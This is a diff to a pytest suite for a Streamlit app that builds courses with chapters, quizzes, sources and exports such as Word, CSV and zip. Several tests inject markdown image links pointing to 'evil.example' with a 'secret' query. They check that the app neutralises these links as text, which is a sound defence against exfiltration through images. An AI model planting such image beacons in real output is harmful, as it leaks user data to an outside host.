@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import time
+import zipfile
 from pathlib import Path
 
+import docx
 import pytest
 import streamlit as st
 from streamlit.testing.v1 import AppTest
@@ -452,13 +456,105 @@ def test_a_resumed_course_is_listed_once_and_its_time_counts_every_run(gemini_pa
 
 def test_chapter_text_loads_no_remote_image_and_sits_below_the_chapter_title(page, tmp_path):
     make_course(page, "Volcanoes")
-    chapter = next((tmp_path / "Volcanoes").glob("chapter_01_*.md"))
-    chapter.write_text(chapter.read_text() + "\n![](https://evil.example/?q=secret)\n")
+    data = next((tmp_path / "Volcanoes").glob("chapter_01_*.json"))
+    chapter = json.loads(data.read_text(encoding="utf-8"))
+    chapter["explanation"] += "\n![](https://evil.example/?q=secret)\n"
+    data.write_text(json.dumps(chapter), encoding="utf-8")
     page.run()
     rendered = texts(page.markdown)
     assert "[Image: image](https://evil.example/?q=secret)" in rendered
     assert "![" not in rendered
     assert "#### Summary" in rendered and not re.search(r"^#{1,2} ", rendered, re.MULTILINE)
+
+
+def saved_chapter(folder: Path, index: int = 1) -> dict:
+    """Chapter `index` as the store saved it (its data file)."""
+    return json.loads(next(folder.glob(f"chapter_{index:02d}_*.json")).read_text("utf-8"))
+
+
+def test_each_chapter_shows_its_quiz_and_checking_marks_the_answers_and_scores(page, tmp_path):
+    make_course(page, "Volcanoes")
+    quiz = saved_chapter(tmp_path / "Volcanoes")["quiz"]
+    first, second = (page.radio(key=f"Volcanoes-1-q{n}") for n in (1, 2))
+    assert first.label.startswith("1. ") and quiz[0]["question"] in first.label
+    assert len(first.options) == 4 and first.value is None
+    first.set_value(quiz[0]["answer"])
+    second.set_value((quiz[1]["answer"] + 1) % 4)
+    button(page, "Check answers").click().run()
+    assert quiz[0]["explanation"] in texts(page.success)
+    assert "Not quite" in texts(page.error) and quiz[1]["explanation"] in texts(page.error)
+    assert next(m for m in page.metric if m.label == "Score").value == f"1 of {len(quiz)}"
+
+
+def test_each_chapter_lists_its_sources(page, tmp_path):
+    make_course(page, "Volcanoes")
+    assert "- Pasted text, Kinds of volcano" in texts(page.markdown)
+
+
+def test_quiz_and_sources_load_no_remote_image(page, tmp_path):
+    make_course(page, "Volcanoes")
+    data = next((tmp_path / "Volcanoes").glob("chapter_01_*.json"))
+    chapter = json.loads(data.read_text(encoding="utf-8"))
+    image = "![x](https://evil.example/?q=secret)"
+    chapter["quiz"][0].update(question=f"Which? {image}", options=[image] * 4,
+                              explanation=image)
+    chapter["sources"][0]["heading"] = image
+    data.write_text(json.dumps(chapter), encoding="utf-8")
+    page.run()
+    quiz = page.radio(key="Volcanoes-1-q1")
+    button(page, "Check answers").click().run()
+    shown = [quiz.label, *quiz.options, texts(page.markdown), texts(page.warning)]
+    assert all("![" not in text for text in shown)
+    assert "[Image: x](https://evil.example/?q=secret)" in texts(page.warning)
+
+
+class Downloads:
+    """Spies on the page's deferred downloads: each button's file name, type and builder."""
+
+    def __init__(self, monkeypatch) -> None:
+        from streamlit.runtime.media_file_manager import MediaFileManager
+
+        self.made: dict[str, tuple[str | None, object]] = {}
+        original = MediaFileManager.add_deferred
+
+        def add_deferred(manager, data, mimetype, coordinates, file_name=None, **kw):
+            self.made[file_name] = (mimetype, data)
+            return original(manager, data, mimetype, coordinates, file_name, **kw)
+
+        monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
+
+    def bytes_of(self, file_name: str) -> bytes:
+        return self.made[file_name][1]()
+
+
+def test_the_export_choice_offers_every_format_and_downloads_the_chosen_one(page, tmp_path,
+                                                                           monkeypatch):
+    make_course(page, "Volcanoes")
+    spy = Downloads(monkeypatch)
+    choice = next(s for s in page.selectbox if s.label == "Export format")
+    assert choice.options == ["HTML page", "Word (.docx)", "SCORM 1.2 package",
+                              "Moodle XML questions", "GIFT questions", "Flashcards (CSV)",
+                              "Markdown (one file)"]
+    choice.set_value("docx").run()
+    assert [b.label for b in page.download_button] == ["Download zip",
+                                                        "Download Word (.docx)"]
+    assert spy.made["Volcanoes.docx"][0].endswith("wordprocessingml.document")
+    document = docx.Document(io.BytesIO(spy.bytes_of("Volcanoes.docx")))
+    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
+    assert "Kinds of volcano" in " ".join(headings)
+    assert zipfile.ZipFile(io.BytesIO(spy.bytes_of("Volcanoes.zip"))).namelist()
+
+
+def test_a_partly_finished_course_exports_its_finished_chapters(page, tmp_path, monkeypatch):
+    make_course(page, "Volcanoes")
+    folder = tmp_path / "Volcanoes"
+    manifest = json.loads((folder / "course.json").read_text(encoding="utf-8"))
+    manifest["chapters"][1].update(status="failed", file=None, last_error="quota")
+    (folder / "course.json").write_text(json.dumps(manifest), encoding="utf-8")
+    spy = Downloads(monkeypatch)
+    next(s for s in page.selectbox if s.label == "Export format").set_value("csv").run()
+    cards = list(csv.reader(io.StringIO(spy.bytes_of("Volcanoes.csv").decode("utf-8"))))
+    assert cards and not any("Cinder" in card[0] for card in cards)
 
 
 def test_the_timeline_has_a_summary_line_and_a_table_of_attempts(gemini_page, gemini_env):
